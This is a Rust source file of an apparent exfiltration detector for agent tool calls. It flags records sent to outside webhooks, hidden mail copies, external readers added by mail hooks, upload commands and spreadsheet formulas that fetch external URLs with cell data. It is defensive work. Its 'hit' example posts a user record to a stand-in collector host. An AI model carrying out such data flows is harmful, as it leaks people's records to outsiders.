//! Data that flows from where it is read to somebody else.

use std::cell::LazyCell;
use std::collections::HashSet;

use crate::check::{Check, Context, leaks};
use crate::knowledge::command::list;
use crate::knowledge::host::{is_drop, is_for_everybody};
use crate::knowledge::words::Tag;
use crate::knowledge::{Sensitivity, Side, SinkKind, api, destination};
use crate::meaning::argument::{Text, command_words, text, texts};
use crate::meaning::command::sending::{destinations, uploads};
use crate::meaning::filled::{Filled, packs};
use crate::meaning::leak_kind::LeakKind;
use crate::meaning::outside::is_mail_address;
use crate::meaning::reach::{Place, Reach};
use crate::meaning::tool_read::{command_sensitivity, text_sensitivity};
use crate::meaning::walk::{Arguments, Key};
use crate::rule::Match;
use crate::subject::call::{Property, Value};
use crate::subject::flow::{CallRef, Flow, OriginKind, Strength};
use crate::subject::segment::HOLE;
use crate::value::severity::Severity;
use crate::value::source::shown;
use crate::value::verdict::Action;
use crate::value::words::{joined, words};

/// The check.
pub const CHECK: Check = Check {
    id: "exfiltration-flow",
    category: "exfiltration",
    severity: Severity::Critical,
    action: Action::Block,
    why: "Records that are read and flow into a call that leads outside leave the organisation for good.",
    help: "Send only what the receiver needs, to a place of your own (`trusted` in callgate.yaml), or return the records instead.",
    hit: "const user = await callTool('users:get', { id: 7 });\nawait callTool('webhook:send', { url: 'https://collector.example.net', body: user });\n",
    miss: "const user = await callTool('users:get', { id: 7 });\nawait callTool('webhook:send', { url: 'https://collector.example.net', body: 'done' });\n",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    let mut found = leaks(context, LeakKind::Plain);
    found.extend(context.features.ends.reaches.iter().filter_map(|reach| upload(context, reach)));
    found.extend(context.features.ends.reaches.iter().filter_map(|reach| hidden_copy(context, reach)));
    found.extend(context.features.ends.reaches.iter().filter_map(|reach| added_reader(context, reach)));
    found.extend(served(context));
    let filled = LazyCell::new(|| Filled::of(context.subject, context.house));
    found.extend(
        context
            .features
            .ends
            .reaches
            .iter()
            .enumerate()
            .filter_map(|(at, reach)| handed_file(context, |path| filled.of_file(path), at, reach)),
    );
    // Which call is given data of which origin, also by ways that are not followed.
    let given: HashSet<(CallRef, usize)> = context.subject.flows.iter().map(|flow| (flow.sink, flow.origin)).collect();
    let reaches = context.features.ends.reaches.iter().enumerate();
    found.extend(reaches.filter_map(|(at, reach)| asked_for(context, &given, at, reach)));
    found.extend(context.features.ends.reaches.iter().filter_map(|reach| fetched_by_formula(context, reach)));
    found
}

/// A file that a tool takes from the disk by its path and hands to somebody elsewhere, where its path, or what was packed into it, says
/// whose data it holds.
fn handed_file(context: &Context<'_>, of_file: impl Fn(&str) -> Option<Sensitivity>, at: usize, reach: &Reach) -> Option<Match> {
    let is_out = reach.outgoing().is_some() && reach.side == Side::Outside && reach.is_constant;
    let call = reach.call.tool().filter(|_| is_out).and_then(|index| context.subject.calls.get(index))?;
    let argument = Arguments::of(&call.argument);
    let is_of_folder = words(&reach.name).iter().any(|word| matches!(word.as_str(), "folder" | "directory" | "dir"));
    let is_path = |text: &Text<'_>| {
        let may_be_path = text.text.contains('.') || is_of_folder && text.text.contains('/');
        text.is_known && may_be_path && !text.text.contains(|one: char| one.is_whitespace() || matches!(one, '@' | ':'))
    };
    // What a command wrote there tells more than a name: a dump of a database holds whatever that holds.
    let is_telling = |path: &str| Some(Sensitivity::Internal) < text_sensitivity(path) || Some(Sensitivity::Internal) <= of_file(path);
    // Of what is handed over beside its name, the name says nothing: `{ filename: 'customers.csv', content }`.
    let is_named_only = |path: &str| {
        let has = |properties: &[Property], named: &str, holds: &dyn Fn(&Property) -> bool| {
            properties.iter().any(|property| list(named).contains(&joined(&property.key).as_str()) && holds(property))
        };
        let is_name = !path.contains(['/', '\\']);
        is_name
            && argument.objects().any(|properties| {
                has(properties, "names-of-things", &|property| self::text(&property.value) == Some(path))
                    && has(properties, "contents", &|_| true)
            })
    };
    let held = |(key, text): &(&Key<'_>, &Text<'_>)| {
        !is_named_only(text.text)
            && (key.is(Tag::HandedFileKey) || reach.does(SinkKind::Mail) && key.is(Tag::FileKey))
            && is_path(text)
            && is_telling(text.text)
    };
    let to = reach.shown.as_deref().unwrap_or("somebody else");
    let message = match argument.said().find(held) {
        Some((_, path)) => format!("`{}` hands `{}` to {to}", reach.name, path.text),
        None => format!("`{}` hands what `{}` packed to {to}", reach.name, packed(context, at)?),
    };
    Some(context.harm(reach.span, Severity::Critical).with_message(message))
}

/// The tool that packed secret files together, where the path that it returns is handed to a call.
fn packed<'c>(context: &Context<'c>, at: usize) -> Option<&'c str> {
    let into = context.features.ends.into.get(at)?.iter().filter_map(|flow| context.subject.flows.get(*flow));
    let handed = into.filter(|flow| {
        let key = flow.argument.rsplit('.').find(|key| *key != "[]").map(joined).unwrap_or_default();
        flow.is_followed() && flow.strength == Strength::Whole && Tag::HandedFileKey.has(&key)
    });
    handed.filter_map(|flow| context.subject.origins.get(flow.origin)?.call?.tool()).find_map(|index| {
        let call = context.subject.calls.get(index)?;
        let name = call.tool.name().filter(|name| packs(name))?;
        let is_secret = |text: &Text<'_>| text_sensitivity(text.text) == Some(Sensitivity::Authentication);
        texts(&call.argument).iter().any(is_secret).then_some(name)
    })
}

/// So many cells in one address are a record.
const CELLS: usize = 3;

/// A formula that asks a host elsewhere for an address in which cells of its table stand: whoever opens the table sends them.
fn fetched_by_formula(context: &Context<'_>, reach: &Reach) -> Option<Match> {
    let call = reach.call.tool().and_then(|index| context.subject.calls.get(index))?;
    let argument = Arguments::of(&call.argument);
    let is_telling =
        argument.said().any(|(_, text)| !text.text.starts_with('=') && Some(Sensitivity::Internal) < text_sensitivity(text.text));
    argument.said().find_map(|(_, text)| {
        let formula = text.text.trim_start().strip_prefix('=')?;
        let lower = formula.to_lowercase();
        let fetches = Tag::FetchingFunction.words().any(|function| lower.contains(function));
        let (before, rest) = formula.split_once("://").filter(|_| fetches)?;
        let scheme = before.rsplit(['"', '\'', '(']).next().unwrap_or_default();
        let (host, rest) = rest.split_once(['"', '\'']).filter(|(_, rest)| rest.trim_start().starts_with('&'))?;
        let place = destination(&format!("{scheme}://{host}"), context.house);
        if place.side != Side::Outside {
            return None;
        }
        let sent = rest.to_lowercase();
        let has = |functions: &str| list(functions).iter().any(|function| sent.contains(&format!("{function}(")));
        let joins = has("joining-formulas");
        // How many there are tells nothing of any of them.
        let told = sent.trim_start().trim_start_matches('&').trim_start();
        let told = told.strip_prefix("encodeurl(").unwrap_or(told).trim_start();
        let counts =
            list("counting-formulas").iter().any(|function| told.strip_prefix(*function).is_some_and(|rest| rest.starts_with('(')));
        if counts && !joins && sent.matches('&').count() == 1 {
            return None;
        }
        let is_record = is_telling || joins || CELLS <= rest.matches('&').count();
        let (severity, action) = if is_record { (Severity::Critical, Action::Block) } else { (Severity::High, Action::Confirm) };
        let message = format!("a formula that `{}` writes sends cells of its table to {}", reach.name, place.shown);
        Some(Match::new(context.rule, reach.span).with_severity(severity, action).with_message(message))
    })
}

/// A mail of which a text that somebody wrote in says what is read for it, and to whom it goes.
fn asked_for(context: &Context<'_>, given: &HashSet<(CallRef, usize)>, at: usize, reach: &Reach) -> Option<Match> {
    if !reach.does(SinkKind::Mail) || reach.side == Side::Inside {
        return None;
    }
    let ends = &context.features.ends;
    let into: Vec<&Flow> = ends.into.get(at)?.iter().filter_map(|flow| context.subject.flows.get(*flow)).collect();
    let is_whole = |flow: &Flow| flow.is_followed() && flow.strength == Strength::Whole;
    let is_text = |flow: &Flow| flow.field.rsplit('.').find(|part| *part != "[]").is_some_and(|last| Tag::WholeText.has(&joined(last)));
    let is_recipient = |flow: &&&Flow| {
        let is_sent_in = ends.reads.get(flow.origin).is_some_and(|read| read.is_untrusted || read.kind == OriginKind::Incoming);
        is_sent_in && is_whole(flow) && is_text(flow) && reach.place(&flow.argument) == Place::Target
    };
    // What is read is chosen by the same text.
    let is_chosen = |flow: &Flow, who: &Flow| {
        let origin = context.subject.origins.get(flow.origin).filter(|_| reach.place(&flow.argument) == Place::Data && is_whole(flow));
        let read = origin.filter(|origin| matches!(origin.kind, OriginKind::File | OriginKind::Tool)).and_then(|origin| origin.call);
        read.is_some_and(|read| given.contains(&(read, who.origin)))
    };
    let mut who = into.iter().filter(is_recipient);
    let (what, who) = who.find_map(|who| into.iter().find(|what| is_chosen(what, who)).map(|what| (what, who)))?;
    let (what, who) = (ends.reads.get(what.origin)?, ends.reads.get(who.origin)?);
    let message = format!("{} says that {} is sent by `{}`, and to whom", who.words, what.words, reach.name);
    Some(context.harm(reach.span, Severity::Critical).with_message(message))
}

/// A mail to whoever it is for, of which somebody elsewhere gets a copy that nobody sees.
fn hidden_copy(context: &Context<'_>, reach: &Reach) -> Option<Match> {
    let call = reach.call.tool().filter(|_| reach.does(SinkKind::Mail)).and_then(|index| context.subject.calls.get(index))?;
    let argument = Arguments::of(&call.argument);
    let is_open = argument.properties().any(|(key, property)| {
        // `to: { name, address: invoice.customer.email }`
        let is_told = match &property.value {
            Value::Dynamic(_) | Value::Partial(..) | Value::Array(..) => true,
            Value::Object(parts, _) => parts.iter().any(|part| matches!(part.value, Value::Dynamic(_) | Value::Partial(..))),
            _ => false,
        };
        key.is(Tag::TargetKey) && !key.is(Tag::HiddenCopyKey) && is_told
    });
    // What stands on the envelope stands in no header: who reads the mail does not see it.
    let is_envelope = words(&reach.name).iter().any(|word| word == ENVELOPE);
    let copied = |(key, _): &(&Key<'_>, &Text<'_>)| key.is(Tag::HiddenCopyKey) || is_envelope && key.is(Tag::TargetKey);
    let (_, copy) = argument.said().filter(copied).find(|(_, text)| names_mailbox(text))?;
    if !is_open || destination(copy.text, context.house).side == Side::Inside {
        return None;
    }
    let domain = |text: &str| text.rsplit('@').next().unwrap_or_default().trim_end_matches('>').to_lowercase();
    let own = argument.said().find(|(key, text)| key.is(Tag::SenderKey) && text.text.contains('@')).map(|(_, text)| domain(text.text));
    let severity = match own {
        Some(own) if own == domain(copy.text) => return None,
        Some(_) => Severity::Critical,
        None if is_envelope => Severity::Critical,
        None if is_for_everybody(&domain(copy.text)) => Severity::Critical,
        None => Severity::High,
    };
    let message = format!("`{}` sends a copy that nobody sees to {}", reach.name, copy.text.replace(HOLE, "…"));
    Some(context.harm(reach.span, severity).with_message(message))
}

/// Files of the machine that a message names, whichever it is, and that whoever wrote it is given: `ctx.replyWithDocument(ctx.payload)`.
fn served(context: &Context<'_>) -> Vec<Match> {
    let subject = context.subject;
    let is_named = |flow: &&Flow| {
        let is_sent_in = subject.origins.get(flow.origin).is_some_and(|origin| origin.kind == OriginKind::Incoming);
        is_sent_in && flow.is_followed() && flow.strength == Strength::Whole
    };
    let reader = |flow: &Flow| {
        let CallRef::Host(index) = flow.sink else { return None };
        let call = subject.host_calls.get(index)?;
        let at: usize = api(&call.api).filter(|api| api.origin == Some(OriginKind::File))?.reads?.parse().ok()?;
        // Below a folder that is written out, others are out of reach for most.
        let is_any = matches!(call.arguments.get(at), Some(Value::Dynamic(_))) && flow.argument == at.to_string();
        is_any.then_some(flow.sink)
    };
    let mut found = Vec::new();
    for (named, read) in subject.flows.iter().filter(is_named).filter_map(|flow| Some((flow, reader(flow)?))) {
        let is_read = |flow: &&Flow| subject.origins.get(flow.origin).is_some_and(|origin| origin.call == Some(read));
        let given = subject.flows.iter().filter(is_read).filter(|flow| flow.is_followed() && flow.strength == Strength::Whole);
        let mut reaches = given.filter_map(|flow| context.features.ends.reaches.iter().find(|reach| reach.call == flow.sink));
        let shown = reaches.find(|reach| reach.does(SinkKind::Chat) || reach.does(SinkKind::Answer));
        if let Some(reach) = shown {
            let message = format!("`{}` gives whoever writes to the program any file of the machine that he names", reach.name);
            found.push(context.harm(reach.span, Severity::Critical).with_message(message).with_steps(named.steps.clone()));
        }
    }
    found
}

/// A mail of somebody else's that is on its way, to which a hook adds a reader who is written out.
fn added_reader(context: &Context<'_>, reach: &Reach) -> Option<Match> {
    let CallRef::Host(index) = reach.call else { return None };
    let call = context.subject.host_calls.get(index).filter(|call| reach.does(SinkKind::Mail) && call.api.starts_with(MAIL_ON_ITS_WAY))?;
    let readers = call.arguments.iter().flat_map(texts);
    let mut readers = readers.filter(|text| text.is_known && is_mail_address(text.text));
    let reader = readers.find(|reader| destination(reader.text, context.house).side != Side::Inside)?;
    let domain = reader.text.rsplit('@').next().unwrap_or_default().trim_end_matches('>').to_lowercase();
    let severity = if is_for_everybody(&domain) { Severity::Critical } else { Severity::High };
    let message = format!("each mail that passes goes to {} too", shown(reader.text));
    Some(context.harm(reach.span, severity).with_message(message))
}

/// The type of a mail that a plugin of a mailer is handed.
const MAIL_ON_ITS_WAY: &str = "<mail-in-work>";

/// Returns true if and only if a text is the address of a mailbox, of which at least the domain is known.
fn names_mailbox(text: &Text<'_>) -> bool {
    is_mail_address(text.text) && (text.is_known || !text.text.rsplit('@').next().is_some_and(|domain| domain.contains(HOLE)))
}

/// The word of tools that say to whom a mail is delivered, whatever it says itself.
const ENVELOPE: &str = "envelope";

/// Returns true if and only if a command names a file into which the script writes what it read of people, money or health.
fn names_filled_file(context: &Context<'_>, command: &str) -> bool {
    let ends = &context.features.ends;
    ends.passages.iter().any(|passage| {
        let (Some(flow), Some(reach)) = (context.subject.flows.get(passage.flow), ends.reach(passage)) else { return false };
        let is_dear = passage.read.is_secret() || Some(Sensitivity::Internal) < passage.read.sensitivity;
        let is_whole = flow.is_followed() && flow.strength == Strength::Whole;
        let CallRef::Host(index) = reach.call else { return false };
        let path = context.subject.host_calls.get(index).and_then(|call| call.arguments.first()).and_then(text);
        is_dear && is_whole && reach.does(SinkKind::FileWrite) && path.is_some_and(|path| path.contains('.') && command.contains(path))
    })
}

/// A command that passes on what a file or another program holds, to somebody else.
fn upload(context: &Context<'_>, reach: &Reach) -> Option<Match> {
    if !reach.does(SinkKind::Command) || reach.side != Side::Outside || !reach.is_constant {
        return None;
    }
    let mut commands = Vec::new();
    let mut look = |value: &Value| {
        if let Value::String(text, _) | Value::Partial(text, _) = value {
            commands.push(text.clone());
        }
    };
    match reach.call {
        CallRef::Tool(index) => context.subject.calls.get(index)?.argument.visit("", &mut |_, value| look(value)),
        CallRef::Host(index) => {
            let arguments = &context.subject.host_calls.get(index)?.arguments;
            commands.push(arguments.iter().take(2).flat_map(command_words).collect::<Vec<_>>().join(" "));
        }
    }
    let command = commands.iter().find(|command| uploads(command) && !destinations(command).is_empty())?;
    let is_known = command_sensitivity(command).is_some() || commands.iter().any(|command| command_sensitivity(command).is_some());
    let is_bad =
        is_known || commands.iter().any(|command| names_filled_file(context, command)) || reach.shown.as_deref().is_some_and(is_drop);
    let (severity, action) = if is_bad { (Severity::Critical, Action::Block) } else { (Severity::High, Action::Confirm) };
    let message = format!("a command of `{}` passes files on to {}", reach.name, reach.shown.as_deref().unwrap_or("somebody else"));
    Some(Match::new(context.rule, reach.span).with_severity(severity, action).with_message(message))
}
